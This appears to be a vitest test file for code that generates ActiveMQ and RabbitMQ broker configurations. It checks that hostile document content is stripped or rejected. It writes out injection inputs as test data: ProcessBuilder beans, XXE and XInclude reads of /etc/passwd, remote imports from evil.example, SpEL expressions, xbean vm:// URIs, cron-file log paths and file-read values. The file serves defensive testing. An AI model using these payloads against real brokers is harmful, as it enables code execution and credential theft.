import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { activemqConfiguration } from '../../../local/brokers/activemq/activemqConfiguration.ts';
import type { PlannedUser } from '../../../local/brokers/brokerPlan.ts';
import type { PreparedBroker } from '../../../local/brokers/program.ts';
import { rabbitmqConfiguration } from '../../../local/brokers/rabbitmq/rabbitmqConfiguration.ts';
import { DEFAULT_DOCUMENTS } from '../../../src/mq/configurations/defaultConfiguration.ts';
import { wellFormedText } from '../../support/wellFormedText.ts';
import { HOSTILE_CHARACTERS, HOSTILE_VALUES, writings } from './hostileValues.ts';

const home = mkdtempSync(join(tmpdir(), 'mqgate-home-'));
afterAll(() => rmSync(home, { recursive: true, force: true }));

const notes: string[] = [];

function prepared(document: string | undefined, users: readonly PlannedUser[] = []): PreparedBroker {
  const broker = {
    id: 'b-1',
    name: 'orders',
    hostInstanceType: 'mq.m7g.large',
    deploymentMode: 'SINGLE_INSTANCE',
  };
  return {
    plan: { broker, users, document } as PreparedBroker['plan'],
    directory: '/data/b-1',
    secrets: '/data/b-1/secrets',
    ports: { endpoints: [20_001, 20_002], console: 20_003 },
    authority: undefined as never,
    hasData: true,
    note: (sentence) => notes.push(sentence),
  };
}

const xml = (document: string | undefined, users: readonly PlannedUser[] = [], consoleHome?: string) =>
  activemqConfiguration(
    prepared(document, users),
    ['ssl', 'stomp+ssl'],
    { file: '/k.p12', password: 'k' },
    consoleHome,
  );
const broker = (content: string) =>
  `<broker xmlns="http://activemq.apache.org/schema/core">${content}</broker>`;
const user = (password: string): PlannedUser => ({
  username: 'alice',
  password,
  groups: ['admins', 'staff'],
  consoleAccess: false,
});

describe('the configuration of an ActiveMQ broker', () => {
  test.each([
    ['the default document', DEFAULT_DOCUMENTS.ACTIVEMQ],
    ['no document', undefined],
  ])('%s listens on 127.0.0.1 with TLS only, and refuses clients without a name', (_, document) => {
    const text = xml(document);
    expect([...text.matchAll(/ uri="([^?"]*)/g)].map(([, uri]) => uri)).toEqual([
      'ssl://127.0.0.1:20001',
      'stomp+ssl://127.0.0.1:20002',
    ]);
    expect(text).toContain('anonymousAccessAllowed="false"');
    expect(text).toContain('useJmx="false"');
    expect(text.match(/<persistenceAdapter/g)).toHaveLength(1);
  });

  test.each([
    [
      'attributes of the OpenWire connector stay',
      '<transportConnectors><transportConnector name="openwire" ' +
        'updateClusterClients="true"/></transportConnectors>',
      /<transportConnector name="openwire" updateClusterClients="true" uri="ssl:/,
    ],
    [
      'settings of the store stay, its place does not',
      '<persistenceAdapter><kahaDB directory="/elsewhere" checkpointInterval="6000"/></persistenceAdapter>',
      /<kahaDB checkpointInterval="6000" directory="data\/kahadb"\/>/,
    ],
    [
      'plugins come after the sign-in',
      '<plugins><statisticsBrokerPlugin/></plugins>',
      /<\/simpleAuthenticationPlugin>\s*<statisticsBrokerPlugin\/>/,
    ],
  ])('%s', (_, content, expected) => {
    expect(xml(broker(content))).toMatch(expected);
  });

  /** What a document must not bring to the process: a class, a file, an address that is not a broker's. */
  const REACH = /evil|ProcessBuilder|\/etc\/|0\.0\.0\.0|61616|61617"|java:\/\/|xi:|jaas|hooks|file:/i;

  test.each([
    [
      'a bean of Spring',
      '<bean xmlns="http://www.springframework.org/schema/beans" class="java.lang.ProcessBuilder"/>',
    ],
    [
      'a bean of Spring by a prefix',
      '<b:bean xmlns:b="http://www.springframework.org/schema/beans" class="java.lang.ProcessBuilder"/>',
    ],
    ['a further document', '<import resource="http://evil.example/x.xml"/>'],
    ['a class by its name', '<x:ProcessBuilder xmlns:x="java://java.lang"/>'],
    [
      'an included file',
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    ],
    ['a hook', '<shutdownHooks><hooks class="x"/></shutdownHooks>'],
    [
      'a plain port',
      '<transportConnectors><transportConnector name="openwire" ' +
        'uri="tcp://0.0.0.0:61616"/></transportConnectors>',
    ],
    ['another sign-in', '<plugins><jaasAuthenticationPlugin configuration="x"/></plugins>'],
    [
      'another store',
      '<persistenceAdapter><kahaDB directory="/etc/x" indexDirectory="/etc/y"/></persistenceAdapter>',
    ],
    ['a database', '<persistenceAdapter><jdbcPersistenceAdapter dataSource="#evil"/></persistenceAdapter>'],
    ['other keys', '<sslContext><sslContext trustStore="http://evil.example/x"/></sslContext>'],
    [
      'a management port',
      '<managementContext><managementContext connectorHost="0.0.0.0"/></managementContext>',
    ],
    [
      'a proxy',
      '<proxyConnectors><proxyConnector bind="tcp://0.0.0.0:1" remote="tcp://evil:1"/></proxyConnectors>',
    ],
    ['a system property', '<destinations><queue physicalName="${evil}"/></destinations>'],
    ['an expression', '<destinations><queue physicalName="#{T(evil).run()}"/></destinations>'],
    [
      'a class by a resource',
      '<destinationPolicy><policyMap><policyEntries><policyEntry queue="q" ' +
        'messageGroupMapFactoryType="../evil"/></policyEntries></policyMap></destinationPolicy>',
    ],
    ['an instruction', '<?evil href="file:///etc/passwd"?>'],
    ['text', '<![CDATA[<bean class="evil"/>]]>evil'],
  ])('%s of a document does not reach the broker process', (_, content) => {
    expect(content).toMatch(REACH);
    expect(xml(broker(content))).not.toMatch(REACH);
  });

  test.each([
    ...['dataDirectory="/etc/x"', 'tmpDataDirectory="/etc/x"', 'schedulerDirectory="/etc/x"', 'class="evil"'],
    ...[
      'vmConnectorURI="vm://evil?brokerConfig=xbean:http://evil.example"',
      'init-method="evil"',
      'useJmx="evil"',
    ],
    ...['xmlns:p="java://evil" p:evil="x"', 'persistenceFactory="#evil"', 'services="#evil"', 'id="evil"'],
  ])('an attribute of the broker does not reach the broker process: %s', (attribute) => {
    const text = xml(`<broker xmlns="http://activemq.apache.org/schema/core" ${attribute}/>`);
    expect(text).not.toMatch(REACH);
    expect(text).toContain('useJmx="false"');
  });

  test.each([
    ['<!DOCTYPE broker [<!ENTITY x SYSTEM "file:///etc/passwd">]>', /DOCTYPE/],
    ['<!DOCTYPE broker SYSTEM "http://evil.example/x.dtd">', /DOCTYPE/],
  ])('a document with %s does not start a broker', (declaration, sentence) => {
    expect(() => xml(`${declaration}${broker('')}`)).toThrow(sentence);
  });

  test('a document that asks an LDAP server for permissions does not start a broker', () => {
    const ldap = '<authorizationPlugin><map><cachedLDAPAuthorizationMap/></map></authorizationPlugin>';
    expect(() => xml(broker(`<plugins>${ldap}</plugins>`))).toThrow(/does not ask an LDAP server/);
  });

  test('ActiveMQ’s own ways to group messages are kept', () => {
    const text = xml(
      broker(
        '<destinationPolicy><policyMap><policyEntries><policyEntry ' +
          'queue="q" messageGroupMapFactoryType="cached?cacheSize=5000"/>' +
          '</policyEntries></policyMap></destinationPolicy>',
      ),
    );
    expect(text).toContain('messageGroupMapFactoryType="cached?cacheSize=5000"');
  });

  const connected = (attributes: string) => {
    notes.length = 0;
    return xml(broker(`<networkConnectors><networkConnector name="n" ${attributes}/></networkConnectors>`));
  };

  test.each([
    'static:(ssl://b-1.mq.us-east-1.amazonaws.com:61617)',
    'static:ssl://b-1.mq.us-east-1.amazonaws.com:61617',
    'masterslave:(ssl://b-1.example.com:61617,ssl://b-2.example.com:61617)',
    'static:(failover:(tcp://127.0.0.1:61616, ' +
      'nio+ssl://[::1]:61617)?randomize=false&amp;maxReconnectDelay=0)',
    'static://(ssl://broker:61617?socket.verifyHostName=false)',
  ])('a network connector to other brokers is kept: %s', (uri) => {
    expect(connected(`uri="${uri}"`)).toContain(`uri="${uri}"`);
    expect(notes).toEqual([]);
  });

  test.each([
    'uri="static:(vm://x?brokerConfig=xbean:http://evil.example/x.xml)"',
    'uri="static:(VM://x?brokerConfig=xbean:file:/tmp/x.xml)"',
    'uri="static:(ssl://a:1,vm:x?brokerConfig=xbean:x.xml)"',
    'uri="static:(vm:(broker:(tcp://0.0.0.0:6000)?persistent=false))"',
    'uri="static:(ssl://a:1?x=vm://y)"',
    'uri="static:(ssl://a:1?brokerConfig=xbean%3Ahttp)"',
    'uri="static:(failover:(ssl://a:1)?updateURIsURL=/tmp/uris)"',
    'uri="vm://x"',
    'uri="multicast://default"',
    'uri="ldap://evil.example/x"',
    'uri="static:(http://evil.example:80)"',
    'uri="static:(ssl://a:1)" localUri="vm://x?brokerConfig=xbean:x.xml"',
    'uri="static:(ssl://a:1)" brokerURL="vm://x?brokerConfig=xbean:x.xml"',
  ])('a network connector that could run a program is left out, and the log says so: %s', (attributes) => {
    expect(connected(attributes)).not.toContain('<networkConnector ');
    expect(notes.join()).toMatch(/^A network connector .* b-1 runs without it\.$/);
  });

  test.each([
    ['a &<"> #{1} word', "a &amp;&lt;&quot;&gt; #{'#{'}1} word"],
    ['#a bean of XBean', '##a bean of XBean'],
    ['##two', '###two'],
    ['#{1+1}', "##{'#{'}1+1}"],
    ['${user.home}', '${user.home}'],
  ])('a user has its groups, and a password as plain text: %s', (password, written) => {
    expect(xml(undefined, [user(password)])).toContain(
      `<authenticationUser username="alice" password="${written}" groups="admins,staff"/>`,
    );
  });

  test('a web console is served with TLS, for the users with console access only', () => {
    const text = xml(
      undefined,
      [
        { ...user('#{1} "a" long <password>'), username: 'carol', consoleAccess: true },
        { ...user('a password of nobody'), username: 'dave' },
      ],
      '/opt/activemq',
    );
    const [, beans = ''] = text.split('</broker>');
    expect(beans).toContain('<property name="resourceBase" value="/opt/activemq/webapps/admin"/>');
    expect(beans).toMatch(/"host" value="127\.0\.0\.1"\/>\s*<property name="port" value="20003"\/>/);
    expect(beans).toContain('<property name="keyStorePath" value="/k.p12"/>');
    expect(beans).toContain(`<constructor-arg value="#{'#{'}1} &quot;a&quot; long &lt;password&gt;"/>`);
    expect(beans).not.toMatch(/dave|a password of nobody/);
    expect(beans).toContain('<property name="authenticate" value="true"/>');
    expect(text).toContain('useJmx="true"');
    expect(text).toContain('<managementContext createConnector="false"/>');
  });

  test('a user whose password XML cannot hold is left out, and the log says so', () => {
    notes.length = 0;
    expect(xml(undefined, [user('a \u0001 control character')])).not.toContain('alice');
    expect(notes.join()).toMatch(/alice of b-1 has a control character/);
  });
});

describe('the configuration of a RabbitMQ broker', () => {
  beforeAll(() => {
    mkdirSync(join(home, 'every', 'plugins'), { recursive: true });
    const schemas = join(home, 'plugins', 'rabbit-3.10.8', 'priv', 'schema');
    mkdirSync(schemas, { recursive: true });
    const keys = [
      ...['heartbeat', 'channel_max_per_node', 'listeners.ssl.$name', 'ssl_options.verify'],
      ...['auth_backends.$num', 'auth_backends.$num.authz', 'auth_ldap.user_dn_pattern'],
    ];
    writeFileSync(
      join(schemas, 'rabbit.schema'),
      keys.map((key) => `{mapping, "${key}", "rabbit.x", [{datatype, string}]}.`).join('\n'),
    );
  });

  const conf = (document: string) => {
    notes.length = 0;
    return rabbitmqConfiguration(home, prepared(document)).text.split('\n');
  };

  test('the default document keeps the ports and the certificates', () => {
    const lines = conf(DEFAULT_DOCUMENTS.RABBITMQ);
    expect(lines).toContain('listeners.tcp = none');
    expect(lines).toContain('listeners.ssl.1 = 127.0.0.1:20001');
    expect(lines).toContain('management.ssl.port = 20003');
    expect(lines.filter((line) => line.includes('load_definitions'))).toEqual([]);
  });

  test('a new broker reads its users from a folder that is deleted when the broker is ready', () => {
    const { text } = rabbitmqConfiguration(home, { ...prepared(''), hasData: false });
    expect(text).toContain('load_definitions = secrets/definitions.json\n');
  });

  test('a setting that the installed version knows is kept; an unknown one is left out and named', () => {
    const lines = conf(
      'heartbeat = 120\nauth_backends.1 = internal\nvhost_max = 5\nlisteners.ssl.1 = 0.0.0.0:1',
    );
    expect(lines).toContain('heartbeat = 120');
    expect(lines).toContain('auth_backends.1 = internal');
    expect(lines.filter((line) => /vhost_max|0\.0\.0\.0/.test(line))).toEqual([]);
    expect(notes).toEqual([
      'Amazon MQ does not permit these settings: listeners.ssl.1. b-1 runs without them.',
      expect.stringContaining('does not have these settings: vhost_max.'),
    ]);
  });

  /** UpdateConfiguration refuses them; a document from an older version of the gateway may have them. */
  test.each([
    'listeners.tcp.1 = 0.0.0.0:5672',
    'management.tcp.port = 15672',
    'management.load_definitions = /etc/passwd',
    'definitions.https.url = https://evil.example/users.json',
    'log.file = /etc/cron.d/evil',
    'log.syslog.ip = 203.0.113.9',
    'ssl_options.keyfile = /etc/ssl/private/key.pem',
    'auth_ldap.ssl_options.cacertfile = /etc/passwd',
    'raft.data_dir = /etc',
    'plugins.path = /tmp/evil',
    'anonymous_login_user = alice',
    'amqp1_0.default_user = alice',
    'default_pass = evil',
    'include = /etc/rabbitmq.conf',
  ])('a setting that names a port, a file, an address or a user of its own does not reach it: %s', (line) => {
    const everyKey = join(home, 'every');
    expect(rabbitmqConfiguration(everyKey, prepared(`${line}\nheartbeat = 60`)).text.split('\n')[0]).toBe(
      'heartbeat = 60',
    );
    expect(notes.join()).toContain(`Amazon MQ does not permit these settings: ${line.split(' ')[0]}.`);
  });

  test('only the section for the broker’s instance type counts', () => {
    const section = (name: string, max: number) =>
      `{{${name}}}\nchannel_max_per_node = ${max}\n{{${name}}}\n`;
    const lines = conf(
      `${section('m7g.large.1', 7)}${section('m7g.large.3', 8)}${section('m7g.xlarge.1', 9)}`,
    );
    expect(lines.filter((line) => line.startsWith('channel'))).toEqual(['channel_max_per_node = 7']);
  });

  test.each(['auth_backends.1 = ldap', 'auth_backends.1 = internal\nauth_backends.1.authz = http'])(
    'a broker that would authenticate by another service does not start: %j',
    (document) => {
      expect(() => conf(document)).toThrow(/authenticates by its own users only/);
    },
  );

  test.each(['$(<../../ca-key.pem)', "'$(<ca-key.pem)'", 'x$(ssl_options.keyfile)', "'''\n$(<x)\n'''"])(
    'a value that RabbitMQ would read from a file or another setting is left out: %j',
    (value) => {
      const { text, values } = rabbitmqConfiguration(
        home,
        prepared(`auth_ldap.user_dn_pattern = ${value}\nheartbeat = 60`),
      );
      expect(text).not.toContain('auth_ldap');
      expect(text).toContain('heartbeat = 60\n');
      expect(values).toEqual({});
      expect(notes.join()).toContain('these settings: auth_ldap.user_dn_pattern.');
    },
  );

  /** What the one setting of a document comes to, for each way to write the value in a document. */
  const readBack = (value: string) =>
    writings(value).map((written) => {
      const document = `auth_ldap.user_dn_pattern = ${written}\n`;
      const { text, values } = rabbitmqConfiguration(home, prepared(document));
      const [line = '', next] = text.split('\n');
      expect(next).toBe('listeners.tcp = none');
      const [, plain = ''] = /^auth_ldap\.user_dn_pattern = ([\x20-\x7e]+)$/.exec(line) ?? [];
      const [, file] = /^\$\(<(secrets\/value-\d+)\)$/.exec(plain) ?? [];
      if (file !== undefined) return values[file];
      expect(plain).toMatch(/^(?! )[^#'\\$]+(?<! )$/);
      return plain;
    });

  test.each(HOSTILE_VALUES)('a value is plain text, whatever it has in it: %j', (value) => {
    const asWritten = writings(value).map(() => value);
    expect(asWritten).not.toEqual([]);
    expect(readBack(value)).toEqual(asWritten);
  });

  test('no text sets more than the value of one setting', () => {
    const hostile = fc.array(fc.constantFrom(...HOSTILE_CHARACTERS)).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.oneof(hostile, wellFormedText()), (value) => {
        fc.pre(!value.includes('$('));
        expect(readBack(value)).toEqual(writings(value).map(() => value));
      }),
      { numRuns: 200 },
    );
  });
});
